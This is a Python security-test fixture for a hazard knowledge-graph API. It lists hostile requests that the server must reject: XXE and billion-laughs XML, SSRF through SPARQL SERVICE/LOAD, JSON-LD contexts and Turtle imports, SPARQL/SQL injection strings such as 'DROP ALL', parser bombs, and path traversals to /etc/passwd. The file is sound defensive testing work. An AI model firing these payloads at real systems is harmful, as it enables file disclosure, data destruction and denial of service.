"""The hostile-input corpus: requests that must each get a 4xx with a clear message, write
nothing and connect nowhere (see ``test_hostile.py``, which runs them).

Each :class:`Hostile` is one request. Payloads that point somewhere point at the canary
(``{canary}`` in a string is replaced by its URL), so any attempt to fetch is recorded.
Uploads go in with an admin token, so that they reach the parsers: refusing them at the
door would prove nothing about what lies behind it.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.security.fixtures import COLUMNS, hazard_csv, hazard_row

Kwargs = dict[str, Any]


@dataclass(frozen=True)
class Hostile:
    id: str
    method: str
    path: str
    build: Callable[[str], Kwargs] = field(default=lambda canary: {})
    """Request options (``json``, ``content``, ``files``, ``params``, ``headers``) given the
    canary URL."""
    statuses: tuple[int, ...] = ()
    """The acceptable answers (empty: any 4xx)."""
    says: str | None = None
    """A fragment the problem's title or detail must contain (case-insensitive)."""
    token: str | None = "ops"
    xfail: str | None = None


def _sub(value: Any, canary: str) -> Any:
    if isinstance(value, str):
        return value.replace("{canary}", canary)
    if isinstance(value, bytes):
        return value.replace(b"{canary}", canary.encode())
    if isinstance(value, dict):
        return {k: _sub(v, canary) for k, v in value.items()}
    if isinstance(value, tuple | list):
        return type(value)(_sub(v, canary) for v in value)
    return value


def upload(
    name: str, data: bytes | str, content_type: str = "text/plain", **params: str
) -> Callable[[str], Kwargs]:  # noqa: E501
    raw = data.encode("utf-8") if isinstance(data, str) else data

    def build(canary: str) -> Kwargs:
        kwargs: Kwargs = {"files": {"file": (name, _sub(raw, canary), content_type)}}
        if params:
            kwargs["params"] = params
        return kwargs

    return build


def body(**kwargs: Any) -> Callable[[str], Kwargs]:
    return lambda canary: _sub(kwargs, canary)


# --------------------------------------------------------------------------- payloads

_LOL = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10)
)
_RDF = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:sk="https://w3id.org/safetykg/ontology#">'
    '<sk:Hazard rdf:about="https://w3id.org/safetykg/id/hazard/H-XML">'
    "<sk:description>{entity}</sk:description></sk:Hazard></rdf:RDF>"
)
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE r [{_LOL}]>' + _RDF.format(entity="&lol9;")
XXE_FILE = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + _RDF.format(entity="&x;")
)
XXE_CANARY = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{canary}/xxe">]>' + _RDF.format(
    entity="&x;"
)
XXE_PARAMETER = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "{canary}/dtd"> %remote;]>'
    + _RDF.format(entity="x")
)
JSONLD_REMOTE = json.dumps(
    {
        "@context": "{canary}/context.jsonld",
        "@id": "https://w3id.org/safetykg/id/hazard/H-LD",
        "@type": "Hazard",
        "description": "x",
    }
)
JSONLD_CONTEXT_LIST = json.dumps(
    {"@context": ["{canary}/a.jsonld", {"@import": "{canary}/b.jsonld"}], "records": []}
)
JSONLD_IN_RECORDS = json.dumps(
    {"records": [{"@context": "{canary}/c.jsonld", **hazard_row("H-LD-2", "gas")}]}
)
TTL_HEAD = (
    "@prefix sk: <https://w3id.org/safetykg/ontology#> .\n"
    "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
)
TTL_BASE = (
    "@base <{canary}/> .\n" + TTL_HEAD + '<hazard/H-BASE> a sk:Hazard ; sk:description "x" .\n'
)
TTL_SPARQL_BASE = "BASE <{canary}/>\n" + TTL_HEAD + '<H-BASE2> a sk:Hazard ; sk:description "x" .\n'
TTL_PREFIX = (
    "@prefix sk: <{canary}/ontology#> .\n"
    '<https://w3id.org/safetykg/id/hazard/H-PFX> a sk:Hazard ; sk:description "x" .\n'
)
TTL_IMPORTS = (
    TTL_HEAD
    + "@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
    + "<https://w3id.org/safetykg/id/hazard/H-IMP> a sk:Hazard ; owl:imports <{canary}/onto> .\n"
)
TTL_SEE_ALSO = (
    TTL_HEAD
    + "<https://w3id.org/safetykg/id/hazard/H-SEE> a sk:Hazard ; rdfs:seeAlso <{canary}/more> .\n"
)
TTL_ENTERPRISE = (
    TTL_HEAD
    + "<https://w3id.org/safetykg/id/hazard/H-ENT> a sk:Hazard ; sk:atEnterprise <{canary}> .\n"
)
TTL_TRIG = "GRAPH <{canary}/g> { <https://w3id.org/safetykg/id/hazard/H-G> a <x:y> . }\n"
TTL_NESTED_BNODES = (
    TTL_HEAD
    + "<https://w3id.org/safetykg/id/hazard/H-NEST> sk:description "
    + "[ sk:description " * 20_000
    + '"x"'
    + " ]" * 20_000
    + " .\n"
)
TTL_NESTED_LISTS = (
    TTL_HEAD
    + "<https://w3id.org/safetykg/id/hazard/H-LIST> sk:description "
    + "( " * 20_000
    + '"x"'
    + " )" * 20_000
    + " .\n"
)
TTL_ESCAPED_IRI = TTL_HEAD + "<https://w3id.org/safetykg/id/hazard/H\\u003E> a sk:Hazard .\n"

INJECTIONS = [
    '"',
    "'",
    ">",
    "}",
    "\\u0022",
    "H-1\nH-2",
    'x" } UNION { ?s ?p ?o } #',
    "x> <https://evil.example/> .",
    "\\u003E\\u0022",
    "') ; DROP ALL ; #",
    "H-1\u202e\u0000",
]
TRAVERSALS = ["../../etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..\\..\\pyproject.toml"]

FULL_HEADER = ",".join(COLUMNS)


def _csv_with(column: str, value: str) -> bytes:
    return hazard_csv([{**hazard_row("H-INJ-1", "gas"), column: value}])


def _chunked_csv_field() -> bytes:
    row = hazard_row("H-LONG", "gas", description="长" * 1_000_000)
    return hazard_csv([row])


SPARQL_GETS = {
    "service": "SELECT * WHERE { SERVICE <{canary}/sparql> { ?s ?p ?o } }",
    "service-silent": "SELECT * WHERE { SERVICE SILENT <{canary}/sparql> { ?s ?p ?o } }",
    "service-subquery": "SELECT * WHERE { { SELECT * WHERE { SERVICE <{canary}> { ?s ?p ?o } } } }",
    "service-exists": "ASK { ?s ?p ?o FILTER EXISTS { SERVICE <{canary}> { ?s ?p ?o } } }",
    "service-optional": "SELECT * WHERE { ?s ?p ?o OPTIONAL { SERVICE <{canary}> { ?s ?x ?y } } }",
    "service-prefixed": "PREFIX c: <{canary}/> SELECT * WHERE { SERVICE c:sparql { ?s ?p ?o } }",
    "service-variable": "SELECT * WHERE { BIND(<{canary}> AS ?e) SERVICE ?e { ?s ?p ?o } }",
    "service-mixed-case": "SELECT * WHERE { sErViCe <{canary}> { ?s ?p ?o } }",
    "service-comment": "SELECT * WHERE { SERVICE#x\n<{canary}> { ?s ?p ?o } }",
    "service-unicode-escape": "SELECT * WHERE { \\u0053ERVICE <{canary}> { ?s ?p ?o } }",
    "service-construct": "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <{canary}> { ?s ?p ?o } }",
    "service-describe": "DESCRIBE ?s WHERE { SERVICE <{canary}> { ?s ?p ?o } }",
    "from-canary": "SELECT * FROM <{canary}/g> WHERE { ?s ?p ?o }",
    "from-named-canary": "SELECT * FROM NAMED <{canary}/g> WHERE { GRAPH ?g { ?s ?p ?o } }",
    "from-file": "SELECT * FROM <file:///etc/passwd> WHERE { ?s ?p ?o }",
    "from-base-relative": "BASE <{canary}/> SELECT * FROM <g> WHERE { ?s ?p ?o }",
    "load-as-query": "LOAD <{canary}/data.ttl>",
    "not-sparql": "'; DROP TABLE hazards; --",
}
UPDATES = {
    "load": "LOAD <{canary}/data.ttl>",
    "load-silent-into": "LOAD SILENT <{canary}/d.ttl> INTO GRAPH <urn:x>",
    "insert-data": "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "delete-where": "DELETE WHERE { ?s ?p ?o }",
    "drop-all": "DROP ALL",
    "clear-audit": "CLEAR GRAPH <https://w3id.org/safetykg/graph/audit>",
    "create": "CREATE GRAPH <{canary}/g>",
    "copy": "COPY <https://w3id.org/safetykg/graph/hazards> TO <{canary}/g>",
}

CORPUS: list[Hostile] = []

# ---- uploads: RDF/XML with a DOCTYPE, under every name the route might take it by
for name, doc in [
    ("billion-laughs", BILLION_LAUGHS),
    ("xxe-file", XXE_FILE),
    ("xxe-canary", XXE_CANARY),
    ("xxe-parameter-entity", XXE_PARAMETER),
]:
    CORPUS += [
        Hostile(
            f"upload-{name}-as-ttl",
            "POST",
            "/api/hazards/import",
            upload("h.ttl", doc, "text/turtle"),
            (422,),
            "Turtle",
        ),
        Hostile(
            f"upload-{name}-as-rdf",
            "POST",
            "/api/hazards/import",
            upload("h.rdf", doc, "application/rdf+xml"),
            (400,),
            "format",
        ),
        Hostile(
            f"upload-{name}-format-rdfxml",
            "POST",
            "/api/hazards/import",
            upload("h.xml", doc, "application/rdf+xml", format="rdfxml"),
            (400,),
            "format",
        ),
        Hostile(
            f"upload-{name}-as-json",
            "POST",
            "/api/hazards/import",
            upload("h.json", doc, "application/json"),
            (422,),
            "JSON",
        ),
    ]

# ---- uploads: JSON-LD with remote contexts
CORPUS += [
    Hostile(
        "jsonld-remote-context",
        "POST",
        "/api/hazards/import",
        upload("h.json", JSONLD_REMOTE, "application/ld+json"),
        (422,),
        "array of objects",
    ),
    Hostile(
        "jsonld-context-list-and-import",
        "POST",
        "/api/hazards/import",
        upload("h.json", JSONLD_CONTEXT_LIST, "application/ld+json"),
        (422,),
        "@context",
    ),
    Hostile(
        "jsonld-context-inside-records",
        "POST",
        "/api/hazards/import",
        upload("h.json", JSONLD_IN_RECORDS, "application/json"),
        (422,),
        "@context",
    ),
    Hostile(
        "jsonld-body-to-create",
        "POST",
        "/api/hazards",
        body(json={"@context": "{canary}/c.jsonld", **hazard_row("H-LD-3", "gas")}),
        (400,),
        "@context",
    ),
]

# ---- uploads: Turtle pointing at the canary, or built to exhaust the parser
for name, doc in [
    ("ttl-base-canary", TTL_BASE),
    ("ttl-sparql-base-canary", TTL_SPARQL_BASE),
    ("ttl-prefix-canary", TTL_PREFIX),
    ("ttl-owl-imports-canary", TTL_IMPORTS),
    ("ttl-see-also-canary", TTL_SEE_ALSO),
    ("ttl-enterprise-is-canary", TTL_ENTERPRISE),
    ("ttl-trig-graph-canary", TTL_TRIG),
    ("ttl-nested-blank-nodes", TTL_NESTED_BNODES),
    ("ttl-nested-collections", TTL_NESTED_LISTS),
    ("ttl-escaped-iri", TTL_ESCAPED_IRI),
    (
        "ttl-invalid-utf8",
        TTL_HEAD + '<https://w3id.org/safetykg/id/hazard/H-U> sk:description "\udcff" .',
    ),
]:
    raw = doc.encode("utf-8", "surrogateescape")
    CORPUS.append(
        Hostile(
            f"upload-{name}",
            "POST",
            "/api/hazards/import",
            upload("h.ttl", raw, "text/turtle"),
            (422,),
            "nothing was imported",
        )
    )

# ---- uploads: JSON shaped to hurt
for name, raw, says, xfail in [
    ("json-deep-array", b"[" * 100_000 + b"]" * 100_000, "nested too deeply", None),
    (
        "json-deep-object",
        b'{"records":' * 50_000 + b"[]" + b"}" * 50_000,
        "nested too deeply",
        None,
    ),
    ("json-huge-number", b'{"records": [{"hazard_id": 1e999999}]}', None, None),
    ("json-nan", b'[{"hazard_id": NaN, "major": Infinity}]', None, None),
    (
        "json-lone-surrogate",
        b'[{"hazard_id": "\\ud800"}]',
        "hazard_id",
        None,
    ),
    ("json-latin1", '[{"hazard_id": "H-é"}]'.encode("latin-1"), "UTF-8", None),
    ("json-top-level-string", b'"hazards"', "array of objects", None),
    ("json-duplicate-keys", b'[{"hazard_id": "H-1", "hazard_id": "../x"}]', None, None),
]:
    CORPUS.append(
        Hostile(
            f"upload-{name}",
            "POST",
            "/api/hazards/import",
            upload("h.json", raw, "application/json"),
            (422,),
            says,
            xfail=xfail,
        )
    )

# ---- uploads: CSV shaped to hurt
CORPUS += [
    Hostile(
        "csv-million-columns",
        "POST",
        "/api/hazards/import",
        upload("h.csv", ",".join(["c"] * 1_000_000) + "\n", "text/csv"),
        (422,),
        "column",
    ),
    Hostile(
        "csv-million-columns-one-known",
        "POST",
        "/api/hazards/import",
        upload("h.csv", "hazard_id," + ",".join(["c"] * 1_000_000) + "\n", "text/csv"),
        (422,),
        "unknown column",
    ),
    Hostile(
        "csv-field-over-the-csv-limit",
        "POST",
        "/api/hazards/import",
        upload("h.csv", _chunked_csv_field(), "text/csv"),
        (422,),
        "field",
    ),
    Hostile(
        "csv-neither-utf8-nor-gb18030",
        "POST",
        "/api/hazards/import",
        upload("h.csv", FULL_HEADER.encode() + b"\n\xff\xfe\xfa\xfb\xfc,\x80\x80\n", "text/csv"),
        (422,),
        "UTF-8",
    ),
    Hostile(
        "csv-utf16",
        "POST",
        "/api/hazards/import",
        upload("h.csv", ("\ufeff" + FULL_HEADER + "\n").encode("utf-16-le"), "text/csv"),
        (422,),
        "UTF-16",
    ),
    Hostile(
        "csv-nul-bytes",
        "POST",
        "/api/hazards/import",
        upload("h.csv", FULL_HEADER.encode() + b"\nH-1\x00,\x00\n", "text/csv"),
        (422,),
    ),
    Hostile(
        "csv-empty",
        "POST",
        "/api/hazards/import",
        upload("h.csv", b"", "text/csv"),
        (422,),
        "empty",
    ),
    Hostile(
        "csv-bom-only",
        "POST",
        "/api/hazards/import",
        upload("h.csv", b"\xef\xbb\xbf", "text/csv"),
        (422,),
        "empty",
    ),
    Hostile(
        "csv-binary",
        "POST",
        "/api/hazards/import",
        upload("h.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "text/csv"),
        (422,),
    ),
    Hostile(
        "csv-gzip-bomb-unopened",
        "POST",
        "/api/hazards/import",
        upload("h.csv", gzip.compress(b"a" * 5_000_000), "text/csv"),
        (422,),
    ),
    Hostile(
        "csv-traversal-file-name",
        "POST",
        "/api/hazards/import",
        upload("../../../../tmp/safetykg-pwned.csv", b"hazard_id\nx\n", "text/csv"),
        (422,),
    ),
    Hostile(
        "import-unknown-format-param",
        "POST",
        "/api/hazards/import",
        upload("h.csv", b"hazard_id\n", "text/csv", format="../../etc/passwd"),
        (400,),
    ),
    Hostile(
        "import-format-xml",
        "POST",
        "/api/hazards/import",
        upload("h.csv", b"hazard_id\n", "text/csv", format="xml"),
        (400,),
    ),
    Hostile(
        "import-without-file",
        "POST",
        "/api/hazards/import",
        body(data={"nofile": "x"}),
        (400,),
        "file",
    ),
    Hostile(
        "import-many-fields",
        "POST",
        "/api/hazards/import",
        body(data={f"f{i}": "x" for i in range(2000)}),
        (400,),
    ),
    Hostile(
        "import-json-body",
        "POST",
        "/api/hazards/import",
        body(json=[hazard_row("H-J", "gas")]),
        (400,),
    ),
    Hostile(
        "import-declared-too-large",
        "POST",
        "/api/hazards/import",
        body(
            content=b"x" * (9 * 1024 * 1024),
            headers={"Content-Type": "multipart/form-data; boundary=x"},
        ),
        (413,),
        "SAFETYKG_MAX_BODY",
    ),
]
for column in (
    "hazard_id",
    "enterprise_sectors",
    "enterprise_region",
    "credit_code",
    "channel",
    "status",
):
    for i, value in enumerate(INJECTIONS):
        if column != "hazard_id" and i % 2:  # every string in ids, half of them elsewhere
            continue
        CORPUS.append(
            Hostile(
                f"csv-inject-{column}-{i}",
                "POST",
                "/api/hazards/import",
                upload("h.csv", _csv_with(column, value), "text/csv"),
                (422,),
                column,
            )
        )
for i, value in enumerate(TRAVERSALS):
    CORPUS.append(
        Hostile(
            f"csv-traversal-hazard-id-{i}",
            "POST",
            "/api/hazards/import",
            upload("h.csv", _csv_with("hazard_id", value), "text/csv"),
            (422,),
            "hazard_id",
        )
    )

# ---- one record as JSON
CORPUS += [
    Hostile(
        "create-deep-json",
        "POST",
        "/api/hazards",
        body(content=b"[" * 100_000 + b"]" * 100_000, headers={"Content-Type": "application/json"}),
        (400,),
    ),
    Hostile(
        "create-invalid-utf8",
        "POST",
        "/api/hazards",
        body(content=b'{"hazard_id": "\xff\xfe"}', headers={"Content-Type": "application/json"}),
        (400,),
    ),
    Hostile(
        "create-list-as-id",
        "POST",
        "/api/hazards",
        body(json={**hazard_row("H-X", "gas"), "hazard_id": ["H-1", "H-2"]}),
        (400,),
        "hazard_id",
    ),
    Hostile(
        "create-nan",
        "POST",
        "/api/hazards",
        body(content=b'{"hazard_id": NaN}', headers={"Content-Type": "application/json"}),
        (400,),
    ),
    Hostile(
        "create-too-large",
        "POST",
        "/api/hazards",
        body(json={**hazard_row("H-BIG", "gas"), "description": "x" * (9 * 1024 * 1024)}),
        (413,),
        "SAFETYKG_MAX_BODY",
    ),
]
for i, value in enumerate(INJECTIONS + TRAVERSALS):
    CORPUS.append(
        Hostile(
            f"create-inject-hazard-id-{i}",
            "POST",
            "/api/hazards",
            body(json=hazard_row(value, "gas")),
            (422,),
            "hazard_id",
        )
    )

# ---- status changes
for i, path_id in enumerate(
    ["..%2F..%2Fetc%2Fpasswd", "%2e%2e", "H%22%3E%7D", "H-1%0AH-2", "%EF%BC%8E%EF%BC%8E", "H-1%00"]
):
    CORPUS.append(
        Hostile(
            f"transition-id-{i}",
            "POST",
            f"/api/hazards/{path_id}/transitions",
            body(json={"to": "rectifying", "actor": "x"}),
            (400, 404, 422),
        )
    )
CORPUS += [
    Hostile(
        "transition-to-injection",
        "POST",
        "/api/hazards/H-SEC-GAS/transitions",
        body(json={"to": 'closed" } ; DROP ALL ; #', "actor": "城市管理局"}),
        (400, 422),
        "to: unknown status",
    ),
    Hostile(
        "transition-actor-injection",
        "POST",
        "/api/hazards/H-SEC-GAS/transitions",
        body(json={"to": "rectifying", "actor": "x> <{canary}> ."}),
        (400, 404, 422),
    ),
    Hostile(
        "transition-bad-time",
        "POST",
        "/api/hazards/H-SEC-GAS/transitions",
        body(json={"to": "rectifying", "actor": "x", "at": "9999-99-99T99:99"}),
        (400,),
    ),
    Hostile(
        "transition-deep-json",
        "POST",
        "/api/hazards/H-SEC-GAS/transitions",
        body(
            content=b"{" + b'"a":{' * 50_000 + b"}" * 50_001,
            headers={"Content-Type": "application/json"},
        ),
        (400,),
    ),
]

# ---- SPARQL: federation, remote datasets, updates — by GET, form POST and direct POST
for name, text in SPARQL_GETS.items():
    CORPUS.append(
        Hostile(
            f"sparql-get-{name}",
            "GET",
            "/sparql",
            body(params={"query": text}),
            (400,),
            None,
            token=None,
        )
    )
for name in ("service", "from-canary", "service-variable"):
    text = SPARQL_GETS[name]
    CORPUS += [
        Hostile(
            f"sparql-form-{name}", "POST", "/sparql", body(data={"query": text}), (400,), token=None
        ),
        Hostile(
            f"sparql-direct-{name}",
            "POST",
            "/sparql",
            body(content=text, headers={"Content-Type": "application/sparql-query"}),
            (400,),
            token=None,
        ),
    ]
CORPUS += [
    Hostile(
        "sparql-default-graph-uri-canary",
        "GET",
        "/sparql",
        body(params={"query": "SELECT * { ?s ?p ?o }", "default-graph-uri": "{canary}/g"}),
        (400,),
        token=None,
    ),
    Hostile(
        "sparql-named-graph-uri-canary",
        "GET",
        "/sparql",
        body(
            params={"query": "SELECT * { GRAPH ?g { ?s ?p ?o } }", "named-graph-uri": "{canary}/g"}
        ),
        (400,),
        token=None,
    ),
    Hostile(
        "sparql-invalid-utf8",
        "POST",
        "/sparql",
        body(
            content=b"SELECT * { ?s ?p \xff\xfe }",
            headers={"Content-Type": "application/sparql-query"},
        ),
        (400,),
        token=None,
    ),
    Hostile(
        "sparql-too-large",
        "POST",
        "/sparql",
        body(
            content=b"#" * (9 * 1024 * 1024), headers={"Content-Type": "application/sparql-query"}
        ),
        (413,),
        token=None,
    ),
    Hostile(
        "sparql-deep-nesting",
        "GET",
        "/sparql",
        body(params={"query": "SELECT * WHERE " + "{" * 10_000 + "?s ?p ?o" + "}" * 10_000}),
        (400,),
        token=None,
    ),
]
for name, text in UPDATES.items():
    CORPUS += [
        Hostile(
            f"sparql-update-form-{name}",
            "POST",
            "/sparql",
            body(data={"update": text}),
            (403,),
            "update",
        ),
        Hostile(
            f"sparql-update-direct-{name}",
            "POST",
            "/sparql",
            body(content=text, headers={"Content-Type": "application/sparql-update"}),
            (403,),
            "update",
        ),
    ]
CORPUS.append(
    Hostile(
        "sparql-update-by-get",
        "GET",
        "/sparql",
        body(params={"update": UPDATES["load"]}),
        (400, 403),
        token=None,
    )
)

# ---- path traversal in ids, names and export formats
for i, path in enumerate(
    [
        "/id/..%2F..%2Fetc%2Fpasswd/x",
        "/id/%2e%2e/%2e%2e",
        "/id/task/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/id/hazard/..%5C..%5Cpyproject.toml",
        "/api/export/..%2F..%2Fetc%2Fpasswd",
        "/api/export/%2e%2e%2f%2e%2e%2fpyproject.toml",
        "/api/export/graphml?scope=../../etc/passwd",
        "/api/export/gexf?scope=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/static/pages/..%2f..%2f..%2fpyproject.toml",
        "/static/pages/%2e%2e%2fapp.py",
        "/static/pages/%252e%252e%252fapp.py",
        "/static/pages/%EF%BC%8E%EF%BC%8E%EF%BC%8Fapp.py",
        "/sparql/assets/..%2f..%2fapp.py",
        "/sparql/assets/%2e%2e%2f%2e%2e%2fsecurity.py",
        "/queries/..%2f..%2fpyproject.toml",
        "/queries/%2e%2e%2fREADME",
        "/api/departments/..%2F..%2F..%2Fetc%2Fpasswd",
        "/api/sectors/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/api/regions/..%5C..%5Cwindows%5Cwin.ini",
        "/api/tasks/..%2F..%2F/1",
        "/api/plans/bozhou-2024%00.ttl",
        "/api/hazards/..%2F..%2Fetc%2Fpasswd",
    ]
):
    CORPUS.append(Hostile(f"traversal-{i}", "GET", path, token=None))
